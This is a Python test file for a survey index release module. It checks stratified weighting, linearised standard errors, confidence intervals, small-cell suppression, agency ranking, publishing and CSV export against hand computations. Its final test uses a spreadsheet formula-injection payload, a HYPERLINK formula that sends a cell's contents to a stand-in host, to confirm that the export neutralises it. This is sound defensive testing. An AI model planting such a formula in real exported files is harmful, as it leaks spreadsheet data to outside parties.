"""Releases: figures checked against an independent hand computation from the same rows.

The reference below is written from the textbook formulas, not from :mod:`analysis`:

* non-response adjustment within strata (Valliant, Dever & Kreuter 2018, sec. 13.5) with equal
  base weights N_h / S_h gives w_i = N_h / r_h;
* a criterion share is the ratio R = sum w 1[y >= 4] / sum w 1[y valid];
* its SE is the stratified linearisation (Särndal, Swensson & Wretman 1992, sec. 5.6):
  z_i = w_i (a_i - R b_i) / B, zero outside the domain,
  V = sum_h (1 - r_h / N_h) r_h / (r_h - 1) sum_{i in h} (z_i - zbar_h)^2;
* the logit interval is expit(logit R +/- t_{df} SE / (R (1 - R))) with df = respondents - strata
  (R ``svyciprop(method="logit")``).
"""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import numpy as np
import pytest
from numpy.typing import NDArray
from scipy import stats
from scipy.special import expit, logit
from sqlalchemy import String, cast, literal, update
from sqlmodel import Session, col

from survey.errors import Conflict, InvalidInput
from survey.models import Campaign, Dossier, Draw, IndexRelease, Response
from survey.releases import (
    compute_release,
    get_release,
    list_releases,
    publish_release,
    release_csv,
    submit_release,
)
from tests.api.fast_users import make_user
from tests.survey.release_fixtures import STRATA, ReleaseCampaign, build_release_campaign


def _matrix(rc: ReleaseCampaign) -> NDArray[np.float64]:
    y = np.full((len(rc.answers), len(rc.criteria)), np.nan)
    for i, answers in enumerate(rc.answers):
        for k, code in enumerate(rc.criteria):
            value = answers.get(code)
            if value is not None and value != 0:
                y[i, k] = value
    return y


def _weights(rc: ReleaseCampaign) -> NDArray[np.float64]:
    strata = np.asarray(rc.strata)
    respondents = {s: int((strata == s).sum()) for s in STRATA}
    return np.array([STRATA[s][2] / respondents[s] for s in rc.strata])


def _score(
    rc: ReleaseCampaign, criterion: str, in_domain: NDArray[np.bool_]
) -> tuple[float, NDArray[np.float64]]:
    """Share of one criterion in a domain and its weighted linearised score z_i."""
    w = _weights(rc)
    y = _matrix(rc)[:, rc.criteria.index(criterion)]
    b = (~np.isnan(y) & in_domain).astype(float)
    a = ((y >= 4) & in_domain).astype(float)
    big_b = float((w * b).sum())
    share = float((w * a).sum()) / big_b
    return share, w * (a - share * b) / big_b


def _stratified_se(rc: ReleaseCampaign, z: NDArray[np.float64]) -> float:
    strata = np.asarray(rc.strata)
    variance = 0.0
    for s, spec in STRATA.items():
        zh = z[strata == s]
        r_h = zh.size
        variance += (1 - r_h / spec[2]) * r_h / (r_h - 1) * ((zh - zh.mean()) ** 2).sum()
    return float(np.sqrt(variance))


def _hand(rc: ReleaseCampaign, criterion: str, in_domain: NDArray[np.bool_]) -> tuple[float, float]:
    """Share and SE of one criterion in a domain, from the formulas in the module docstring."""
    share, z = _score(rc, criterion, in_domain)
    return share, _stratified_se(rc, z)


def _row(release: IndexRelease, node: str, **domain: str) -> dict[str, Any]:
    hits = [r for r in release.results["rows"] if r["node"] == node and r["domain"] == domain]
    assert len(hits) == 1, (node, domain)
    return hits[0]


def test_release_matches_hand_computation(session: Session) -> None:
    rc = build_release_campaign(session)
    release = compute_release(
        session=session,
        campaign_id=rc.campaign_id,
        name="Chỉ số 2026",
        by=["channel"],
        min_respondents=5,
        max_cv=0.5,
    )
    assert release.status == "draft" and release.id is not None
    n = len(rc.strata)
    everyone = np.ones(n, dtype=bool)
    df = n - len(STRATA)
    for criterion in ("access_q16", "civil_servants_q25", "feedback_q33"):
        share, se = _hand(rc, criterion, everyone)
        row = _row(release, criterion)
        assert row["estimate"] == pytest.approx(share, rel=1e-12)
        assert row["se"] == pytest.approx(se, rel=1e-9)
        assert row["df"] == df
        half = stats.t.ppf(0.975, df) * se / (share * (1 - share))
        assert row["ci_lower"] == pytest.approx(expit(logit(share) - half), rel=1e-9)
        assert row["ci_upper"] == pytest.approx(expit(logit(share) + half), rel=1e-9)
    # A domain that cuts across strata keeps the whole design (zeroed scores outside).
    online = np.asarray(rc.channels) == "online"
    share, se = _hand(rc, "results_q29", online)
    row = _row(release, "results_q29", channel="online")
    assert row["estimate"] == pytest.approx(share, rel=1e-12)
    assert row["se"] == pytest.approx(se, rel=1e-9)
    # criteria-mean: element = mean of its criteria, overall = mean of the elements.
    shares = {c: _hand(rc, c, everyone)[0] for c in rc.criteria}
    elements = {
        e: np.mean([v for c, v in shares.items() if c.startswith(e + "_q")])
        for e in ("access", "procedures", "civil_servants", "results", "feedback")
    }
    assert _row(release, "access")["estimate"] == pytest.approx(elements["access"], rel=1e-12)
    overall = _row(release, "overall")
    assert overall["estimate"] == pytest.approx(np.mean(list(elements.values())), rel=1e-12)
    # The overall index is sum_c m_c R_c with m_c = 1 / (elements x criteria of c's element);
    # its score is the same combination of the criterion scores.
    sizes = {e: sum(c.startswith(e + "_q") for c in rc.criteria) for e in elements}
    z_overall = np.sum(
        [
            _score(rc, c, everyone)[1] / (len(elements) * sizes[c.rsplit("_q", 1)[0]])
            for c in rc.criteria
        ],
        axis=0,
    )
    assert overall["se"] == pytest.approx(_stratified_se(rc, z_overall), rel=1e-9)
    assert overall["n_respondents"] == n


def test_two_stage_design_uses_ultimate_clusters(session: Session) -> None:
    """For a PPS draw the SE comes from first-stage units (communes) within strata, with
    replacement: V = sum_h m_h / (m_h - 1) sum_j (Z_hj - Zbar_h)^2 over commune totals Z_hj of
    the linearised scores (Lohr 2021, sec. 6.x ultimate-cluster estimator), not from
    respondents as if they were drawn one by one."""
    rc = build_release_campaign(session)
    campaign = session.get(Campaign, rc.campaign_id)
    assert campaign is not None
    draw = session.get(Draw, campaign.draw_id)
    assert draw is not None
    draw.design_snapshot = {
        **draw.design_snapshot,
        "design": {
            "selection": "pps",
            "stratify_by": ["agency_code"],
            "psu_column": "commune_code",
        },
    }
    session.add(draw)
    # Four communes per stratum, by dossier id, copied to the responses as a start would.
    session.execute(
        update(Dossier).values(commune_code=literal("X") + cast(Dossier.id % 4, String))
    )
    communes = [f"X{dossier_id % 4}" for dossier_id in rc.dossier_ids]
    for response_id, commune in zip(rc.response_ids, communes, strict=True):
        session.execute(update(Response).where(col(Response.id) == response_id).values(psu=commune))
    session.commit()
    release = compute_release(
        session=session, campaign_id=rc.campaign_id, name="pps", by=[], min_respondents=5
    )
    assert release.parameters["variance"]["first_stage_units"] == "commune_code"
    strata = np.asarray(rc.strata)
    psu = np.char.add(np.char.add(strata, "/"), np.asarray(communes))
    for criterion in ("access_q15", "results_q30"):
        share, z = _score(rc, criterion, np.ones(len(rc.strata), dtype=bool))
        variance = 0.0
        for stratum in STRATA:
            in_h = strata == stratum
            labels, inverse = np.unique(psu[in_h], return_inverse=True)
            totals = np.bincount(inverse, weights=z[in_h])
            m_h = labels.size
            variance += m_h / (m_h - 1) * ((totals - totals.mean()) ** 2).sum()
        row = _row(release, criterion)
        assert row["estimate"] == pytest.approx(share, rel=1e-12)
        assert row["se"] == pytest.approx(np.sqrt(variance), rel=1e-9)
        assert row["df"] == 3 * 4 - 3  # clusters minus strata


def test_summary_and_parameters(session: Session) -> None:
    rc = build_release_campaign(session)
    release = compute_release(
        session=session, campaign_id=rc.campaign_id, name="r", by=["agency_code"]
    )
    summary = release.summary
    sampled = sum(v[3] for v in STRATA.values())  # reserves and in-progress rows excluded
    assert summary["respondents"] == len(rc.strata)
    assert summary["sampled"] == sampled
    assert summary["response_rate"] == pytest.approx(len(rc.strata) / sampled)
    assert summary["design_df"] == len(rc.strata) - len(STRATA)
    # Non-response adjusted weights add up to the frame: sum_h N_h.
    assert summary["estimated_population"] == pytest.approx(sum(v[2] for v in STRATA.values()))
    factors = {s["stratum"]: s["adjustment_factor"] for s in summary["strata"]}
    assert factors == pytest.approx({s: v[3] / v[4] for s, v in STRATA.items()})
    params = release.parameters
    assert params["variance"]["fpc_source"] == "draw_snapshot"
    assert params["reliability"]["min_respondents"] == 30
    assert "vi" in params["weighting"]["description"]
    # Stored as plain JSON (no NaN), with no identifying field anywhere.
    text = json.dumps(
        {"r": release.results, "s": release.summary, "p": release.parameters}, allow_nan=False
    )
    assert "invitation" not in text and "phone" not in text


def test_suppression_flags_and_ranking(session: Session) -> None:
    rc = build_release_campaign(session)
    release = compute_release(
        session=session,
        campaign_id=rc.campaign_id,
        name="r",
        by=["agency_code"],
        min_respondents=31,
        max_cv=0.2,
    )
    rows = {
        r["domain"].get("agency_code"): r for r in release.results["rows"] if r["node"] == "overall"
    }
    # AG-B has 30 respondents: suppressed, no figure kept; the others are published.
    assert rows["AG-B"]["flag"] == "suppressed" and rows["AG-B"]["estimate"] is None
    assert rows["AG-A"]["estimate"] is not None and rows["AG-A"]["flag"] in ("ok", "unreliable")
    ranking = release.results["ranking"]
    assert [r["agency_code"] for r in ranking] == ["AG-A", "AG-C"]  # suppressed ones not ranked
    assert all(1 <= r["rank_lower"] <= r["rank"] <= r["rank_upper"] <= 2 for r in ranking)
    assert ranking[0]["estimate"] > ranking[1]["estimate"]
    assert rows["AG-A"]["rank"] == 1 and rows["AG-A"]["tier"] >= 1
    table = list(csv.DictReader(io.StringIO(release_csv(release))))
    b = next(r for r in table if r["agency_code"] == "AG-B" and r["node"] == "overall")
    assert b["estimate"] == "" and b["flag"] == "suppressed"
    a = next(r for r in table if r["agency_code"] == "AG-A" and r["node"] == "overall")
    assert float(a["estimate"]) == pytest.approx(rows["AG-A"]["estimate"], abs=1e-6)
    assert a["rank"] == "1"


def test_errors_name_the_field(session: Session) -> None:
    rc = build_release_campaign(session)
    with pytest.raises(InvalidInput) as unknown:
        compute_release(session=session, campaign_id=rc.campaign_id, name="r", by=["phone"])
    assert unknown.value.problems[0].loc == ("by", 0)
    with pytest.raises(InvalidInput) as bad_rule:
        compute_release(session=session, campaign_id=rc.campaign_id, name="r", rule="median")
    assert bad_rule.value.problems[0].loc == ("rule",)


def test_campaign_without_responses_and_publishing(session: Session) -> None:
    rc = build_release_campaign(session)
    empty = build_release_campaign(session, seed=8)
    session.execute(
        update(Response)
        .where(col(Response.campaign_id) == empty.campaign_id)
        .values(status="in_progress")
    )
    session.commit()
    with pytest.raises(InvalidInput) as error:
        compute_release(session=session, campaign_id=empty.campaign_id, name="r")
    assert error.value.problems[0].loc == ("campaign_id",)
    release = compute_release(session=session, campaign_id=rc.campaign_id, name="r", by=[])
    assert release.id is not None
    assert {r["domain_name"] for r in release.results["rows"]} == {"all"}
    assert list_releases(session=session, published_only=True) == []
    analyst, admin = make_user(session, "analyst"), make_user(session, "admin")
    submit_release(session=session, release_id=release.id, actor=analyst)
    published = publish_release(session=session, release_id=release.id, actor=admin)
    assert published.status == "published" and published.published_at is not None
    assert [r.id for r in list_releases(session=session, published_only=True)] == [release.id]
    with pytest.raises(Conflict):
        publish_release(session=session, release_id=release.id, actor=admin)
    assert get_release(session=session, release_id=release.id).status == "published"


def test_mean_score_rule_is_the_weighted_mean_of_valid_answers(session: Session) -> None:
    rc = build_release_campaign(session)
    release = compute_release(
        session=session, campaign_id=rc.campaign_id, name="r", by=[], rule="mean-score"
    )
    w = _weights(rc)
    y = _matrix(rc)[:, rc.criteria.index("procedures_q20")]
    valid = ~np.isnan(y)
    expected = float((w[valid] * y[valid]).sum() / w[valid].sum())
    row = _row(release, "procedures_q20")
    assert row["estimate"] == pytest.approx(expected, rel=1e-12)
    assert row["ci_lower"] < expected < row["ci_upper"]


def test_strata_without_respondents_and_single_respondent_strata(session: Session) -> None:
    spec = {
        **STRATA,
        "D": ("AG-D", "01", 50, 10, 0),  # sampled, nobody answered
        "E": ("AG-E", "01", 20, 5, 1),  # one respondent: a lonely stratum
    }
    rc = build_release_campaign(session, strata_spec=spec)
    release = compute_release(session=session, campaign_id=rc.campaign_id, name="r", by=[])
    summary = release.summary
    assert summary["strata_without_respondents"] == ["D"]
    assert summary["sampled"] == sum(v[3] for v in spec.values())
    # The respondents carry their strata only: D's 50 dossiers are not represented.
    assert summary["estimated_population"] == pytest.approx(
        sum(v[2] for k, v in spec.items() if k != "D")
    )
    assert release.parameters["variance"]["lonely_psu"] == "adjust"
    with pytest.raises(InvalidInput) as error:
        compute_release(
            session=session, campaign_id=rc.campaign_id, name="r", by=[], lonely_psu="fail"
        )
    assert error.value.problems[0].loc == ("lonely_psu",)
    assert "one PSU" in error.value.problems[0].msg


def test_geo_mapping_merges_old_province_codes(session: Session) -> None:
    # Bắc Giang (24) and Bắc Ninh (27) became one province, 24, on 1 July 2025 (DOMAIN.md).
    provinces = {"A": "24", "B": "27", "C": "01"}
    spec = {s: (v[0], provinces[s], *v[2:]) for s, v in STRATA.items()}
    rc = build_release_campaign(session, strata_spec=spec)
    as_recorded = compute_release(
        session=session, campaign_id=rc.campaign_id, name="r", by=["province_code"]
    )
    mapped = compute_release(
        session=session,
        campaign_id=rc.campaign_id,
        name="r",
        by=["province_code"],
        geo_mapping="provinces-2025",
    )

    def domains(release: IndexRelease) -> set[str]:
        return {r["domain"]["province_code"] for r in release.results["rows"] if r["domain"]}

    assert domains(as_recorded) == {"01", "24", "27"}
    assert domains(mapped) == {"01", "24"}
    merged = np.isin(np.asarray(rc.strata), ["A", "B"])
    share, se = _hand(rc, "access_q16", merged)
    row = _row(mapped, "access_q16", province_code="24")
    assert row["estimate"] == pytest.approx(share, rel=1e-12)
    assert row["se"] == pytest.approx(se, rel=1e-9)
    assert _row(mapped, "overall", province_code="24")["n_respondents"] == int(merged.sum())
    # Only the domains change: the whole-campaign figures are those of the unmapped release.
    assert _row(mapped, "overall")["estimate"] == _row(as_recorded, "overall")["estimate"]
    assert as_recorded.parameters["geo_mapping"] is None
    recorded = mapped.parameters["geo_mapping"]
    assert recorded["province_code"] == "provinces-2025"
    assert "1 July 2025" in recorded["description"]["en"] and recorded["description"]["vi"]
    table = list(csv.DictReader(io.StringIO(release_csv(mapped))))
    assert {r["province_code"] for r in table} == {"", "01", "24"}


def test_geo_mapping_errors_name_the_field(session: Session) -> None:
    rc = build_release_campaign(session, strata_spec={"A": ("AG-A", "99", 400, 60, 45)})
    for mapping, message in (("districts-1999", "does not exist"), ("provinces-2025", "'99'")):
        with pytest.raises(InvalidInput) as error:
            compute_release(
                session=session,
                campaign_id=rc.campaign_id,
                name="r",
                by=["province_code"],
                geo_mapping=mapping,
            )
        assert error.value.problems[0].loc[0] == "geo_mapping"
        assert message in error.value.problems[0].msg


def test_cells_of_fewer_than_five_respondents_are_suppressed_whatever_the_rule(
    session: Session,
) -> None:
    spec = {**STRATA, "E": ("AG-E", "01", 40, 8, 4)}  # four respondents: below k = 5
    rc = build_release_campaign(session, strata_spec=spec)
    release = compute_release(
        session=session, campaign_id=rc.campaign_id, name="r", by=["agency_code"], min_respondents=0
    )
    rows = [r for r in release.results["rows"] if r["domain"].get("agency_code") == "AG-E"]
    assert rows and all(r["flag"] == "suppressed" and r["estimate"] is None for r in rows)
    assert all(r["n_respondents"] <= 4 for r in rows)
    assert "AG-E" not in {r["agency_code"] for r in release.results["ranking"]}
    assert release.parameters["disclosure"]["k"] == 5
    shown = [r for r in release.results["rows"] if r["estimate"] is not None]
    assert shown and all(r["n_respondents"] >= 5 for r in shown)


def test_a_two_stage_release_refuses_responses_without_their_first_stage_unit(
    session: Session,
) -> None:
    rc = build_release_campaign(session)
    campaign = session.get(Campaign, rc.campaign_id)
    assert campaign is not None
    draw = session.get(Draw, campaign.draw_id)
    assert draw is not None
    draw.design_snapshot = {
        **draw.design_snapshot,
        "design": {"selection": "pps", "psu_column": "commune_code"},
    }
    session.add(draw)
    session.execute(update(Response).where(col(Response.id) != rc.response_ids[0]).values(psu="X1"))
    session.commit()
    with pytest.raises(InvalidInput) as error:
        compute_release(session=session, campaign_id=rc.campaign_id, name="pps", by=[])
    assert error.value.problems[0].loc == ("campaign_id",)
    assert "1 completed responses do not record their commune_code" in error.value.problems[0].msg


def test_release_csv_neutralises_formula_like_domain_values(session: Session) -> None:
    rc = build_release_campaign(session)
    # An agency wrote a formula as its procedure field in the imported frame.
    session.execute(
        update(Response)
        .where(col(Response.campaign_id) == rc.campaign_id)
        .values(procedure_field='=HYPERLINK("http://x.example/?"&A1,"OK")')
    )
    session.commit()
    release = compute_release(
        session=session, campaign_id=rc.campaign_id, name="r", by=["procedure_field"]
    )
    table = list(csv.DictReader(io.StringIO(release_csv(release))))
    fields = {r["procedure_field"] for r in table if r["procedure_field"]}
    assert fields == {'\'=HYPERLINK("http://x.example/?"&A1,"OK")'}
    figures = [r["estimate"] for r in table if r["estimate"]]
    assert figures and all(float(v) >= 0 for v in figures)  # numbers are left as numbers
